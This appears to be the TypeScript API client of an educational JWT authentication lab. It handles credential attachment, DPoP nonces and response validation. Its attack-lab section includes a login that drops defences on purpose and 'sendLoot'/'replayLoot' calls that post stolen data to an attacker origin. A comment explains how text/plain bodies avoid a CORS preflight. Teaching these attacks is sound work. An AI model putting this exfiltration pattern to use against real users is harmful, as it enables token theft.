import type {
  ErrorCode,
  ErrorResponse,
  LinkRequest,
  LoginRequest,
  PasswordResetRequest,
  RegisterRequest,
  VerifyEmailRequest,
  WeakenedDefence,
} from '@jwt-lab/shared';
// Types only: the schemas themselves load lazily with the validator (see response-schemas.ts).
import type { ResponseName, ResponseTypes } from './response-schemas';

/**
 * The one way the page talks to the API, and to the attack lab's attacker site. Every answer is
 * checked against the shared schema before anyone sees it; every failure comes back as a typed
 * ApiError. No redirects, no toasts: what to do about a 401 is the caller's decision.
 *
 * The client never decides how a credential travels: it asks the CredentialAttacher it is handed
 * (a page strategy, features/auth/strategies/) for the headers, body fields and cookie policy of
 * each request, and shows that attacher every answer (a DPoP server may ask for a nonce).
 */

export type ProblemCode = ErrorCode | 'network_error' | 'malformed_response';

export class ApiError extends Error {
  override readonly name = 'ApiError';
  constructor(
    readonly code: ProblemCode,
    message: string,
    /** HTTP status, or null when no answer arrived. */
    readonly status: number | null,
  ) {
    super(message);
  }
}

export type ApiResult<T> = { ok: true; status: number; value: T } | { ok: false; error: ApiError };

/** How a request's credential travelled, as the request log shows it. */
export type Carrier = 'authorization-header' | 'dpop' | 'cookie' | 'body' | 'none';

/**
 * What a request needs: `none` (register, links), `login` (a login, which may need a proof of key
 * possession and must accept cookies), `read` (GET with the access token), `change` (a
 * state-changing call with the access token), `refresh` (the refresh token).
 */
type CredentialUse = 'none' | 'login' | 'read' | 'change' | 'refresh';

/** The request a credential is attached to: a DPoP proof names its method and absolute URL. */
interface RequestTarget {
  method: string;
  url: string;
}

export interface CredentialAttachment {
  headers: Record<string, string>;
  credentials: RequestCredentials;
  /** Fields to merge into the JSON body (a refresh token sent in the body travels this way). */
  body?: Record<string, string>;
  carrier: Carrier;
  csrfSent: boolean;
  /** The DPoP proof this request carried, for the request log to decode. */
  proof?: string;
}

/** What a call needs of a strategy: how to attach its credential, and what to learn from answers. */
export interface CredentialAttacher {
  attach(use: CredentialUse, target: RequestTarget): CredentialAttachment | Promise<CredentialAttachment>;
  /**
   * Sees each answer before it is parsed. True asks for the request to be sent once more with a
   * fresh attachment (RFC 9449 section 8: the server answered with a DPoP-Nonce to use).
   */
  observe?(response: Response): boolean;
}

/** A request that carries no credential, and lets no cookie ride along ('omit'). */
export const NO_ATTACHMENT = { headers: {}, credentials: 'omit', carrier: 'none', csrfSent: false } as const satisfies CredentialAttachment;

/**
 * For calls that must carry no credential whatever the mode: a single-use link is the credential
 * of its own call, and no cookie should ride along with it.
 */
export const NO_CREDENTIAL: CredentialAttacher = {
  attach: () => NO_ATTACHMENT,
};

/** One request as the request log shows it. */
export interface Exchange {
  method: string;
  path: string;
  status: number | null;
  at: number;
  carrier: Carrier;
  csrfSent: boolean;
  proof?: string;
  /** Who sent it when it was not this page's own session (a side-by-side strategy). */
  source?: string;
}

interface ApiClientOptions {
  fetch?: typeof fetch;
  onExchange?: (exchange: Exchange) => void;
  now?: () => number;
  /** The page's origin: DPoP proofs name absolute URLs. */
  origin?: string;
  /** Put on every logged exchange (the side-by-side run labels its strategies' calls). */
  source?: string;
}

interface CallOptions {
  /** The request log leaves out calls that are not the app's own (the outbox poll, the attacker's site). */
  logged?: boolean;
  /** A text body: how exfiltration avoids a CORS preflight (the attacker's collector). */
  asText?: boolean;
}

type Credentials = Omit<LoginRequest, 'mode'>;

/** An attacher that also says which server mode it logs in with: a page strategy. */
export interface LoginAttacher extends CredentialAttacher {
  readonly serverMode: LoginRequest['mode'];
}

export function createApiClient({
  fetch: send = (...args) => fetch(...args),
  onExchange = () => {},
  now = Date.now,
  origin = typeof location === 'undefined' ? 'http://localhost' : location.origin,
  source,
}: ApiClientOptions = {}) {
  // Loaded with the first request, in parallel with it; a visitor who only reads never pays for it.
  let responseSchemas: Promise<typeof import('./response-schemas')> | undefined;

  /** `expected` names the schema of a successful answer; null for 204 No Content. */
  async function call<Name extends ResponseName>(
    attacher: CredentialAttacher,
    method: 'GET' | 'POST' | 'DELETE',
    path: string,
    use: CredentialUse,
    expected: Name | null,
    body?: object,
    { logged = true, asText = false }: CallOptions = {},
  ): Promise<ApiResult<ResponseTypes[Name]>> {
    responseSchemas ??= import('./response-schemas');
    const url = new URL(path, origin);
    const target = { method, url: url.href };
    const sendOnce = async (): Promise<{ response: Response | null; attachment: CredentialAttachment }> => {
      const attachment = await attacher.attach(use, target);
      const payload = body || attachment.body ? { ...body, ...attachment.body } : undefined;
      const headers: Record<string, string> = { accept: 'application/json', ...attachment.headers };
      if (payload) headers['content-type'] = asText ? 'text/plain' : 'application/json';
      let response: Response | null;
      try {
        response = await send(url.origin === origin ? path : url.href, {
          method,
          headers,
          credentials: attachment.credentials,
          body: payload && JSON.stringify(payload),
        });
      } catch {
        response = null;
      }
      if (logged) {
        onExchange({
          method,
          path,
          status: response?.status ?? null,
          at: now(),
          carrier: attachment.carrier,
          csrfSent: attachment.csrfSent,
          ...(attachment.proof ? { proof: attachment.proof } : {}),
          ...(source ? { source } : {}),
        });
      }
      return { response, attachment };
    };

    let { response } = await sendOnce();
    // Once at most: a server that keeps asking for a new nonce is answered with its error.
    if (response && attacher.observe?.(response)) ({ response } = await sendOnce());
    if (!response) return failure('network_error', `${describeHost(url, origin)} could not be reached. Check that it is running.`, null);

    if (response.ok && expected === null) return { ok: true, status: response.status, value: null as ResponseTypes[Name] };
    let answer: unknown;
    try {
      answer = await response.json();
    } catch {
      return failure('malformed_response', `${method} ${path} answered ${response.status} with a body that is not JSON.`, response.status);
    }
    const { describeMismatch } = await responseSchemas;
    if (!response.ok) {
      const mismatch = describeMismatch('error', answer);
      if (mismatch) return failure('malformed_response', `${method} ${path} answered ${response.status} with an unexpected error body (${mismatch}).`, response.status);
      const { error, message } = answer as ErrorResponse;
      return failure(error, message, response.status);
    }
    const mismatch = expected && describeMismatch(expected, answer);
    if (mismatch) return failure('malformed_response', `${method} ${path} sent an answer the page does not understand (${mismatch}).`, response.status);
    return { ok: true, status: response.status, value: answer as ResponseTypes[Name] };
  }

  const attackerCall = { logged: false, asText: true };

  return {
    register: (attacher: CredentialAttacher, credentials: RegisterRequest) =>
      call(attacher, 'POST', '/api/auth/register', 'none', 'register', credentials),
    login: <A extends LoginAttacher>(strategy: A, credentials: Credentials) =>
      call(strategy, 'POST', '/api/auth/login', 'login', LOGIN_SCHEMA[strategy.serverMode], { ...credentials, mode: strategy.serverMode }),
    refresh: (strategy: LoginAttacher) => call(strategy, 'POST', '/api/auth/refresh', 'refresh', LOGIN_SCHEMA[strategy.serverMode]),
    session: (attacher: CredentialAttacher) => call(attacher, 'GET', '/api/auth/session', 'read', 'session'),
    privateData: (attacher: CredentialAttacher) => call(attacher, 'GET', '/api/private', 'read', 'privateData'),
    logout: (attacher: CredentialAttacher) => call(attacher, 'POST', '/api/auth/logout', 'change', null),
    logoutEverywhere: (attacher: CredentialAttacher) => call(attacher, 'POST', '/api/auth/logout-all', 'change', null),
    sessions: (attacher: CredentialAttacher) => call(attacher, 'GET', '/api/auth/sessions', 'read', 'sessionList'),
    revokeSession: (attacher: CredentialAttacher, id: string) =>
      call(attacher, 'DELETE', `/api/auth/sessions/${encodeURIComponent(id)}`, 'change', null),
    requestVerificationLink: (request: LinkRequest) =>
      call(NO_CREDENTIAL, 'POST', '/api/auth/verify-email/request', 'none', 'linkRequestAccepted', request),
    requestPasswordResetLink: (request: LinkRequest) =>
      call(NO_CREDENTIAL, 'POST', '/api/auth/password-reset/request', 'none', 'linkRequestAccepted', request),
    verifyEmail: (request: VerifyEmailRequest) => call(NO_CREDENTIAL, 'POST', '/api/auth/verify-email', 'none', 'verifyEmail', request),
    resetPassword: (request: PasswordResetRequest) =>
      call(NO_CREDENTIAL, 'POST', '/api/auth/password-reset', 'none', 'passwordReset', request),
    // The outbox stands in for the visitor's mailbox, not for a call of the app, and it is polled:
    // the request log leaves it out.
    outbox: () => call(NO_CREDENTIAL, 'GET', '/api/outbox', 'none', 'outbox', undefined, { logged: false }),

    // The attack lab (only while ATTACK_LAB is on: 404 not_found otherwise).
    attackLabInfo: () => call(NO_CREDENTIAL, 'GET', '/api/attack-lab', 'none', 'attackLabInfo'),
    foreignRequests: (run: string) =>
      call(NO_CREDENTIAL, 'GET', `/api/attack-lab/foreign-requests?run=${encodeURIComponent(run)}`, 'none', 'foreignRequests'),
    /** A cookie-mode login whose session goes without the named defences, on purpose (lab only). */
    weakenedLogin: (attacher: CredentialAttacher, credentials: Credentials, weaken: WeakenedDefence[]) =>
      call(attacher, 'POST', '/api/attack-lab/weakened-login', 'login', 'weakenedLogin', { ...credentials, weaken }),
    // The attacker's site: another origin, not the app, so these stay out of the request log.
    sendLoot: (attackerOrigin: string, kind: string, data: object) =>
      call(NO_CREDENTIAL, 'POST', `${attackerOrigin}/collect`, 'none', 'loot', { kind, data }, attackerCall),
    replayLoot: (attackerOrigin: string, lootId: number) =>
      call(NO_CREDENTIAL, 'POST', `${attackerOrigin}/replay`, 'none', 'replay', { lootId }, attackerCall),
  };
}

export type ApiClient = ReturnType<typeof createApiClient>;

/** A login or refresh must answer in the mode it was asked for: anything else is a broken server. */
const LOGIN_SCHEMA = {
  header: 'headerLogin',
  cookie: 'cookieLogin',
  memory: 'memoryLogin',
  dpop: 'dpopLogin',
} as const satisfies Record<LoginRequest['mode'], ResponseName>;

function describeHost(url: URL, origin: string): string {
  return url.origin === origin ? 'The server' : `The site at ${url.origin}`;
}

function failure(code: ProblemCode, message: string, status: number | null): { ok: false; error: ApiError } {
  return { ok: false, error: new ApiError(code, message, status) };
}
